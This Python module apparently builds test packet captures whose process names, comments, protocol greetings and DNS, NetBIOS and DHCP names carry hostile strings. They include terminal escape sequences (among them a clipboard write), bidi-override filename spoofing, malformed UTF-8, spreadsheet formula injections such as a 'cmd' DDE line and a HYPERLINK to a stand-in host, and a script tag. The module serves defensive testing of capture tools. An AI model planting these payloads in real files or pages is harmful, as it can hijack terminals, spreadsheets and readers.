"""Captures whose texts are attacks: on terminals, on spreadsheets, on readers' eyes, on decoders of UTF-8."""

from __future__ import annotations

import struct

from .files import block, interface, option, pcap, section
from .lan import packed, udp
from .name_messages import ANSWER, AUTHORITATIVE, FLUSH, INTERNET, A, dhcp, netbios_registration
from .packets import START, STEP, Packet, Talk, ethernet
from .processes import LITTLE, packet_block, pktap_header, process_options
from .registry import capture

TEXTS: tuple[bytes, ...] = (
    # Terminals: colours, title, hyperlink, clipboard (ECMA-48 CSI and OSC), in C0 and C1, also raw 8-bit ones.
    b"\x1b[31mred\x1b[2J",
    b"\x1b]0;title\x07",
    b"\x1b]8;;http://a.example/\x1b\\link\x1b]8;;\x1b\\",
    b"\x1b]52;c;cm0=\x07",
    "\u009b31m\u009d0;t\u009c\u0085\u0090".encode(),
    b"\x9b31m\x9d0;t\x9c",
    b"a\bb\x7fc\x0e\x05\0d",
    b"a\tb\nc\rd\x0be\x0cf",
    # Eyes: directions, nothing where there is something, lines where there are none (Unicode UAX 9, UAX 14).
    "\u202aa\u202bb\u202cc\u202dd\u202egpj.exe".encode(),
    "\u2066e\u2067f\u2068g\u2069h\u200ei\u200fj\u061ck".encode(),
    "\ufeffa\u200bb\u200cc\u200dd\u2060e\u00adf\U000e0041".encode(),
    "a\u2028b\u2029c".encode(),
    "\u3164a\u2800b\ufe0fc\u115fd\uffa0".encode(),
    ("\u0301a" + "\u0301" * 40).encode(),
    # Decoders: overlong ESC, NUL and slash, surrogates, beyond Unicode, cut off, never valid.
    b"\xc0\x9b[31m\xe0\x80\x9b\xf0\x80\x80\x9b\xc0\x80\xc0\xaf",
    b"\xed\xa0\x80\xed\xb0\x80\xed\xb2\x9b",
    b"\xf4\x90\x80\x80\xff\xfe\xf8\x88\xe2\x82",
    # Spreadsheets: formulas, also full-width ones, and what ends a cell.
    b'=HYPERLINK("http://a.example/"&A1,"x")',
    b"+1+cmd|' /C calc'!A0",
    b"-1+1",
    b"@SUM(1,1)",
    "＝1＋1".encode(),
    "＋1".encode(),
    "－1".encode(),
    "＠SUM(1)".encode(),
    b'"",=1+1,"',
    b"a;=1+1",
    b" =1+1",
    b"<script>alert(1)</script>",
)
"""What stands where a name is expected."""

LONG = b"long" * 100
HOST, SERVER = "10.0.0.5", "192.0.2.53"
PORT = 20_000


def syn(turn: int) -> Packet:
    """Return the SYN of a connection of its own."""
    talk = Talk((HOST, PORT + turn), (SERVER, 443), start=START + turn * STEP)
    talk.client.syn(options=b"")
    return talk.packets[0]


@capture(".pcapng")
def hostile_processes() -> bytes:
    """Program names that attack terminals, spreadsheets and readers, in macOS process blocks."""
    out = section(LITTLE) + interface(LITTLE)
    for turn, text in enumerate((*TEXTS, LONG)):
        name = option(LITTLE, 2, text) + option(LITTLE, 0, b"")
        out += block(LITTLE, 0x80000001, struct.pack("<I", 100 + turn) + name)
        out += packet_block(LITTLE, syn(turn), process_options(LITTLE, turn) + option(LITTLE, 0, b""))
    return out


@capture(".pcapng")
def hostile_comments() -> bytes:
    """The same in comments, in descriptions of the machine and its interfaces, in PKTAP, and in a custom block."""
    attacks = TEXTS[0] + TEXTS[8]
    about = b"".join(option(LITTLE, code, attacks) for code in (1, 2, 3, 4)) + option(LITTLE, 0, b"")
    out = block(LITTLE, 0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1) + about)
    of_interface = b"".join(option(LITTLE, code, attacks) for code in (1, 2, 3, 11, 12, 15)) + option(LITTLE, 0, b"")
    for linktype in (1, 258):
        out += block(LITTLE, 1, struct.pack("<HHI", linktype, 0, 0) + of_interface)
    out += block(LITTLE, 0x0BAD, struct.pack("<I", 32_473) + attacks)
    texts = [one for one in TEXTS if b"\n" not in one]
    for turn, text in enumerate(texts[:10]):
        comment = b"PID: %d\nCmd: /bin/" % (100 + turn) + text.replace(b"/", b"") + b"\nArgs: " + text
        out += packet_block(LITTLE, syn(turn), option(LITTLE, 1, comment) + option(LITTLE, 0, b""))
    for turn, text in enumerate(texts[10:], 10):
        header = pktap_header(1, "en0", 2, 0, (100 + turn, text[:20]), (-1, b""))
        raw, time = header + ethernet(syn(turn)), (START + turn * STEP) // 1000
        head = struct.pack("<IIIII", 1, time >> 32, time & 0xFFFFFFFF, len(raw), len(raw))
        out += block(LITTLE, 6, head + raw)
    return out


@capture(".pcap")
def hostile_greetings() -> bytes:
    """The same in the greetings of clients and servers: HTTP, TLS, SSH, SMTP."""
    packets = []
    for turn, text in enumerate(TEXTS):
        said = text.replace(b"\r", b"").replace(b"\n", b"")
        word = said.replace(b" ", b"_")
        kind = turn % 5
        port = (80, 80, 443, 22, 25)[kind]
        talk = Talk((HOST, PORT + turn), (SERVER, port), start=START + turn * STEP)
        if kind == 0:
            talk.client.data(b"GET / HTTP/1.1\r\nHost: " + said + b"\r\nUser-Agent: " + word + b"\r\n\r\n")
        elif kind == 1:
            talk.server.data(b"HTTP/1.1 200 OK\r\nServer: " + word + b"\r\n\r\n")
        elif kind == 2:
            talk.client.data(small_hello(said))
        else:
            talk.server.data((b"SSH-2.0-" + word if kind == 3 else b"220 " + said + b" ESMTP") + b"\r\n")
        packets += talk.packets
    return pcap(packets)


def small_hello(name: bytes) -> bytes:
    """Return a TLS ClientHello with little more than the server's name and the protocol that it offers."""
    server = struct.pack("!HBH", len(name) + 3, 0, len(name)) + name
    offered = struct.pack("!HB", len(name) + 1, len(name)) + name
    extensions = b"".join(struct.pack("!HH", kind, len(one)) + one for kind, one in ((0, server), (16, offered)))
    body = b"\x03\x03" + bytes(32) + b"\0\0\x02\x13\x01\x01\0" + struct.pack("!H", len(extensions)) + extensions
    message = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack("!H", len(message)) + message


@capture(".pcapng")
def hostile_names() -> bytes:
    """The same in host names: DNS, mDNS, NetBIOS, DHCP, and a name resolution block."""
    labels = [one[:63] for one in TEXTS]
    named = [(f"198.51.100.{turn}", label) for turn, label in enumerate(labels, 1)]
    records = b"".join(option(LITTLE, 1, packed(address) + label + b"\0") for address, label in named)
    out = section(LITTLE) + interface(LITTLE) + block(LITTLE, 4, records + option(LITTLE, 0, b""))
    datagrams = [
        udp((SERVER, 53), (HOST, 40_000), answers(ANSWER, INTERNET, named[::2])),
        udp((HOST, 5353), ("224.0.0.251", 5353), answers(AUTHORITATIVE, FLUSH, named[1::2])),
        udp((HOST, 137), ("10.0.0.255", 137), netbios_registration(7, "\x1b[31m\u0007\tA", "198.51.100.1")),
    ]
    leased = [(53, b"\x05"), (12, labels[0]), (15, labels[8]), (81, b"\x05\0\0" + labels[1])]
    datagrams.append(udp(("10.0.0.1", 67), ("198.51.100.2", 68), dhcp(2, 9, bytes(6), "198.51.100.2", leased)))
    packets = [Packet(START, one, True) for one in datagrams]
    for turn in range(len(named)):
        talk = Talk((HOST, PORT + turn), (named[turn][0], 443), start=START + (turn + 1) * STEP)
        talk.client.syn(options=b"")
        packets += talk.packets
    return out + b"".join(packet_block(LITTLE, packet, b"") for packet in packets)


def answers(flags: int, of_class: int, named: list[tuple[str, bytes]]) -> bytes:
    """Return a DNS message with the addresses of names that are one label each."""
    first = bytes([len(named[0][1])]) + named[0][1] + b"\0" + struct.pack("!HH", A, INTERNET)
    out = struct.pack("!HHHHHH", 7, flags, 1, len(named), 0, 0) + first
    for address, label in named:
        out += bytes([len(label)]) + label + b"\0" + struct.pack("!HHIH", A, of_class, 300, 4) + packed(address)
    return out
